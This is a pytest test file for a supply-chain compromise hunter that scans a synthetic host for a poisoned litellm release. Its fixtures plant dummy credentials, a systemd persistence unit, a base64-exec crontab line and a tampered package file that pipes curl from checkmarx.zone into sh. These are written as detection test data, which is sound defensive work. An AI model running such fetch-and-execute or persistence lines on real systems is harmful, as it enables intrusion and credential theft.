"""depvet hunt on a synthetic host: a temporary HOME and system root built here as inert files."""

from __future__ import annotations

import json
import os
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from demo.builders import wheel_bytes, write_site_packages

from depvet.cli import EXIT_FINDINGS, EXIT_OK
from tests.conftest import run_cli
from tests.payloads import TELEMETRY, payload_pth

# Inside LiteLLM's window on the index (2026-03-24 10:39 to 16:00 UTC).
INSTALLED_AT = datetime(2026, 3, 24, 12, 5, tzinfo=UTC).timestamp()
SECRETS = {
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nSENTINEL-SSH-7f3a\n-----END OPENSSH PRIVATE KEY-----\n",
    ".aws/credentials": "[default]\naws_access_key_id = AKIASENTINEL7F3A\naws_secret_access_key = SENTINEL-AWS\n",
    ".kube/config": "apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    token: SENTINEL-KUBE\n",
    ".docker/config.json": '{"auths": {"ghcr.io": {"auth": "U0VOVElORUwtRE9DS0VS"}}}\n',
    ".pypirc": "[pypi]\nusername = __token__\npassword = pypi-SENTINEL-PYPI\n",
    ".git-credentials": "https://u:SENTINEL-GIT@github.com\n",
    "work/app/.env": "DATABASE_URL=postgres://u:SENTINEL-DB@db/app\nOPENAI_API_KEY=sk-SENTINEL-ENV\n",
}


def _install(venv: Path, name: str, version: str, files: dict[str, str], when: float) -> None:
    """One distribution as pip installs it (RECORD with real hashes), every file dated ``when``."""
    write_site_packages(venv, name, version, {**files, f"{name}-{version}.dist-info/INSTALLER": "pip\n"})
    site = venv / "lib" / "python3.11" / "site-packages"
    dist_info = f"{name}-{version}.dist-info"
    for relative in [*files, f"{dist_info}/METADATA", f"{dist_info}/INSTALLER", f"{dist_info}/RECORD"]:
        os.utime(site / relative, (when, when))


def _venv(root: Path) -> None:
    _install(
        root, "requests", "2.32.3", {"requests/__init__.py": "__version__ = '2.32.3'\n"}, INSTALLED_AT - 86400
    )


def _clean_host(tmp_path: Path) -> tuple[Path, Path]:
    home, system = tmp_path / "home", tmp_path / "system"
    for folder in (home / "work" / "app", system / "etc", system / "tmp"):
        folder.mkdir(parents=True)
    (home / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\nalias ll='ls -l'\n", encoding="utf-8")
    (home / "work" / "app" / "main.py").write_text("print('hello')\n", encoding="utf-8")
    _venv(home / "work" / "app" / ".venv")
    return home, system


def _compromised_host(tmp_path: Path) -> tuple[Path, Path]:
    home, system = _clean_host(tmp_path)
    for relative, text in SECRETS.items():
        path = home / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    _install(
        home / "work" / "app" / ".venv",
        "litellm",
        "1.82.8",
        {
            "litellm/__init__.py": "from litellm._telemetry import *  # noqa\n",
            "litellm/_telemetry.py": TELEMETRY,
            "litellm_init.pth": payload_pth("litellm"),
        },
        INSTALLED_AT,
    )
    unit = home / ".config" / "systemd" / "user" / "sysmon.service"
    unit.parent.mkdir(parents=True)
    unit.write_text(
        "[Unit]\nDescription=System Telemetry Service\n\n[Service]\n"
        f"ExecStart=/usr/bin/python3 {home}/.config/sysmon/sysmon.py\nRestart=always\n",
        encoding="utf-8",
    )
    (home / ".config" / "sysmon").mkdir()
    (home / ".config" / "sysmon" / "sysmon.py").write_text("# polls checkmarx.zone/raw\n", encoding="utf-8")
    crontab = system / "var" / "spool" / "cron" / "crontabs" / "user"
    crontab.parent.mkdir(parents=True)
    crontab.write_text(
        "*/10 * * * * /usr/bin/python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"\n",
        encoding="utf-8",
    )
    cached = home / ".cache" / "pip" / "http-v2" / "a" / "b" / "0f3c9e.body"
    cached.parent.mkdir(parents=True)
    cached.write_bytes(
        wheel_bytes(
            "litellm", "1.82.8", {"litellm/__init__.py": "", "litellm_init.pth": payload_pth("litellm")}
        )
    )
    os.utime(cached, (INSTALLED_AT - 60, INSTALLED_AT - 60))
    return home, system


def _hunt(
    capsys: pytest.CaptureFixture[str], home: Path, system: Path, *extra: str
) -> tuple[int, dict[str, Any]]:
    code, out, err = run_cli(
        ["hunt", "--home", str(home), "--system-root", str(system), "--format", "json", "-q", *extra], capsys
    )
    assert code in (EXIT_OK, EXIT_FINDINGS), err
    return code, json.loads(out)["hunt"]


def test_a_compromised_host_shows_every_trace_and_what_to_rotate(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    home, system = _compromised_host(tmp_path)
    monkeypatch.setenv("HOME", str(home))
    code, report = _hunt(capsys, home, system)
    assert code == EXIT_FINDINGS
    kinds = {(f["kind"], Path(f["path"]).name) for f in report["findings"]}
    assert ("known-bad-installed", "litellm-1.82.8.dist-info") in kinds
    assert ("startup-code", "litellm_init.pth") in kinds
    assert ("ioc-file", "litellm_init.pth") in kinds
    assert ("ioc-file", "sysmon.service") in kinds
    assert ("persistence", "sysmon.service") in kinds
    assert ("ioc-file", "sysmon.py") in kinds
    assert ("persistence", "user") in kinds  # the crontab line
    assert ("known-bad-cached", "0f3c9e.body") in kinds
    top = report["findings"][0]
    assert top["severity"] == "critical"
    # The install fell inside the window the release was on the index.
    installed = [e for e in report["timeline"] if e["what"] == "installed"]
    assert installed[0]["release"] == "litellm==1.82.8"
    assert installed[0]["inside_window"] is True
    # Every dummy secret is on the checklist, by path, and none of its contents is anywhere.
    listed = {p for step in report["checklist"] for p in step["paths"]}
    for relative in SECRETS:
        assert str(home / relative) in listed, relative
    text = json.dumps(report)
    assert "SENTINEL" not in text
    venvs = [e for e in report["environments"] if e["path"].endswith(".venv")]
    assert venvs[0]["compromised"] is True


def test_a_clean_host_has_no_findings(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    home, system = _clean_host(tmp_path)
    monkeypatch.setenv("HOME", str(home))
    code, report = _hunt(capsys, home, system)
    assert code == EXIT_OK
    assert report["findings"] == []
    assert report["checklist"] == []
    assert any(e["path"].endswith(".venv") and e["distributions"] == 1 for e in report["environments"])


def test_a_tampered_install_is_found_and_an_untouched_one_is_not(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    home, system = _clean_host(tmp_path)
    monkeypatch.setenv("HOME", str(home))
    site = home / "work" / "app" / ".venv" / "lib" / "python3.11" / "site-packages"
    target = site / "requests" / "__init__.py"
    target.write_text(
        "__version__ = '2.32.3'\nimport os; os.system('curl https://checkmarx.zone/raw | sh')\n"
    )
    _, report = _hunt(capsys, home, system)
    found = {(f["kind"], Path(f["path"]).name) for f in report["findings"]}
    assert ("tampered", "__init__.py") in found
    assert ("ioc-network", "__init__.py") in found
    # Touched but byte for byte the same: a low note, not tampering.
    target.write_text("__version__ = '2.32.3'\n")
    _, report = _hunt(capsys, home, system)
    assert {f["kind"] for f in report["findings"]} == {"modified-after-install"}


def test_an_unreadable_folder_is_reported_and_the_rest_still_searched(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    home, system = _compromised_host(tmp_path)
    monkeypatch.setenv("HOME", str(home))
    locked = home / "private"
    (locked / "deep").mkdir(parents=True)
    real_scandir = os.scandir

    def scandir(path: Any = ".") -> Any:
        if Path(path) == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    code, report = _hunt(capsys, home, system)
    assert code == EXIT_FINDINGS
    assert any(s["path"] == str(locked) and "permission" in s["reason"] for s in report["skipped"])
    assert any(f["kind"] == "known-bad-installed" for f in report["findings"])


def test_hunt_in_the_terminal_says_what_to_do(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    home, system = _compromised_host(tmp_path)
    monkeypatch.setenv("HOME", str(home))
    code, out, _ = run_cli(["hunt", "--home", str(home), "--system-root", str(system), "-q"], capsys)
    assert code == EXIT_FINDINGS
    assert "COMPROMISED" in out
    assert "Rotate now" in out
    assert "litellm==1.82.8" in out


@pytest.mark.parametrize("kind", ["docker-save", "oci-dir"])
def test_hunt_reads_an_image_given_on_the_command_line(
    kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The compromised layer's release is installed in the final view; its .pth, deleted by a later
    layer, is still reported as shipped in the image, one step lower."""
    from tests.hunt.test_images import build, clean, compromised

    home, system = _clean_host(tmp_path)
    monkeypatch.setenv("HOME", str(home))
    image = build(tmp_path / "image", kind, compromised())
    code, report = _hunt(capsys, home, system, str(image))
    assert code == EXIT_FINDINGS
    (summary,) = report["images"]
    assert summary["layers"] == 3
    assert any(p.endswith("litellm_init.pth") for p in summary["deleted_later"])
    installed = [f for f in report["findings"] if f["kind"] == "known-bad-installed"]
    assert installed[0]["release"] == "litellm==1.82.8"
    assert installed[0]["layer"].startswith("sha256:")
    startup = [f for f in report["findings"] if f["kind"] == "startup-code"]
    assert startup[0]["severity"] == "high"  # critical, one step lower: deleted, still shipped
    assert "deleted by layer 3" in startup[0]["evidence"]
    clean_image = build(tmp_path / "clean", kind, clean())
    code, report = _hunt(capsys, home, system, str(clean_image))
    assert code == EXIT_OK
    assert report["findings"] == []


def test_a_path_that_does_not_exist_is_an_error_not_a_clean_hunt(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run_cli(["hunt", "--home", str(tmp_path), str(tmp_path / "missing")], capsys)
    assert code == 2
    assert out == ""
    assert err.count("\n") == 1
    assert "missing: no such file or directory" in err


def test_a_named_file_that_is_no_image_or_a_broken_image_is_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("hello\n")
    code, _, err = run_cli(["hunt", "--home", str(tmp_path), str(notes), "-q"], capsys)
    assert code == 2
    assert "not a directory, an environment or a container image" in err
    broken = tmp_path / "image.tar"
    broken.write_bytes(b"manifest.json".ljust(512, b"\0") + b"\0" * 100)  # a tar header, cut short
    code, _, err = run_cli(["hunt", "--home", str(tmp_path), str(broken), "-q"], capsys)
    assert code == 2
    assert str(broken) in err
